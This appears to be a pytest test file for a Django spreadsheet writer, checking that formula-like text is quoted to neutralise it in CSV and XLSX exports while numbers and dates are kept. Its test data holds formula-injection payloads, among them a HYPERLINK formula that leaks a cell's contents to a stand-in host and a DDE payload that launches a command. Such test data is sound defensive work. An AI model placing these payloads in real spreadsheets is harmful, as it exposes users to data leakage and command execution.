"""The one spreadsheet writer (content/spreadsheets.py): formulas neutralised, numbers and dates kept. No database."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import numpy as np
import openpyxl
import pandas as pd
import pytest
from django.utils.translation import gettext_lazy

from content.spreadsheets import (
    Sheet,
    csv_response,
    csv_text,
    frame_sheet,
    neutralise,
    plain,
    readme_sheet,
    xlsx_bytes,
    xlsx_response,
)

ATTACK = '=HYPERLINK("http://x.example/?"&A1,"open")'
DANGEROUS = [ATTACK, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Batyr", "", "'quoted", " =1", "1+1", "Çaryýewa", "—"])
def test_other_text_is_kept(text):
    assert neutralise(text) == text


def test_plain_values():
    assert plain(float("nan")) is None
    assert plain(pd.NaT) is None and plain(pd.NA) is None
    assert plain(np.int64(-3)) == -3 and type(plain(np.int64(-3))) is int
    assert type(plain(np.float64(0.5))) is float and type(plain(np.bool_(True))) is bool
    assert plain(pd.Timestamp("2026-03-01 10:00")) == datetime(2026, 3, 1, 10, 0)
    assert plain(gettext_lazy("Name")) == "Name"
    assert plain(Decimal("-1.50")) == Decimal("-1.50")


def table(*rows):
    return Sheet(title="Table", header=["Name", "Number", "Date"], rows=list(rows))


def workbook_of(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_has_no_formula_and_keeps_numbers_and_dates(write_only):
    rows = [[text, -5, date(2026, 3, 1)] for text in DANGEROUS] + [["Batyr", Decimal("-2.25"), None]]
    sheet = workbook_of(xlsx_bytes([table(*rows)], write_only=write_only))["Table"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # XML reads a carriage return back as a line feed; the quote is what matters
    assert names == ["'" + text.replace("\r", "\n") for text in DANGEROUS] + ["Batyr"]
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["B8"].value == -2.25 and sheet["B8"].data_type == "n"
    assert sheet["C2"].is_date and sheet["C2"].value.date() == date(2026, 3, 1)
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"


def test_a_header_that_looks_like_a_formula_is_neutralised_too():
    sheet = workbook_of(xlsx_bytes([Sheet(title="T", header=["-gain", "=x"], rows=[])])).active
    assert [cell.value for cell in sheet[1]] == ["'-gain", "'=x"]


def test_aware_datetimes_keep_their_wall_time_and_control_characters_go():
    rows = [["a\x00b\x07c", 1, datetime(2026, 3, 1, 10, 30, tzinfo=UTC)]]
    sheet = workbook_of(xlsx_bytes([table(*rows)])).active
    assert sheet["A2"].value == "abc"
    assert sheet["C2"].value == datetime(2026, 3, 1, 10, 30)


def test_csv_neutralises_text_and_keeps_numbers():
    text = csv_text(table([ATTACK, -5, date(2026, 3, 1)], ["-5", 1.5, None]))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["Name", "Number", "Date"],
        ["'" + ATTACK, "-5", "2026-03-01"],
        ["'-5", "1.5", ""],
    ]


def test_csv_response_has_a_bom_and_the_name():
    response = csv_response(table(["Batyr", 1, None]), filename="t.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="t.csv"' in response["Content-Disposition"]
    assert response.content.decode("utf-8").startswith("\ufeffName,Number,Date\r\n")


def test_a_streamed_csv_is_the_same_text_row_by_row():
    rows = [[ATTACK, -5, date(2026, 3, 1)], ["-5", 1.5, None], ["Çaryýewa", 2, None]]
    response = csv_response(table(*rows), filename="t.csv", stream=True)
    assert response.streaming
    assert 'filename="t.csv"' in response["Content-Disposition"]
    chunks = list(response.streaming_content)
    assert len(chunks) == 1 + 1 + len(rows)  # the BOM, the header and one chunk per row
    assert b"".join(chunks).decode("utf-8") == "\ufeff" + csv_text(table(*rows))


def test_a_frame_and_a_read_me_sheet():
    frame = pd.DataFrame(
        {
            "agency": [ATTACK, "MIA"],
            "n": [3, 4],
            "mean_gain": [-0.25, float("nan")],
            "first_day": pd.to_datetime(["2026-03-01", None]),
        }
    )
    response = xlsx_response(
        [readme_sheet([("Reach",), (), ("Sheet", "Column", "Definition"), ("s", "n", "+ count")]), frame_sheet("s", frame)],
        filename="r.xlsx",
    )
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = workbook_of(response.content)
    assert book.sheetnames == ["Read me", "s"]
    readme = list(book["Read me"].iter_rows(values_only=True))
    assert readme[0][0] == "Reach" and readme[-1][:3] == ("s", "n", "'+ count")
    rows = list(book["s"].iter_rows(values_only=True))
    assert rows[0] == ("agency", "n", "mean_gain", "first_day")
    assert rows[1][:3] == ("'" + ATTACK, 3, -0.25) and rows[1][3] == datetime(2026, 3, 1)
    assert rows[2] == ("MIA", 4, None, None)
    assert not [cell for row in book["s"].iter_rows() for cell in row if cell.data_type == "f"]


def test_a_column_format_applies_to_cells_typed_in_later():
    sheet = workbook_of(xlsx_bytes([Sheet(title="T", header=["a", "date"], column_formats={1: "yyyy-mm-dd"})])).active
    assert sheet.column_dimensions["B"].number_format == "yyyy-mm-dd"
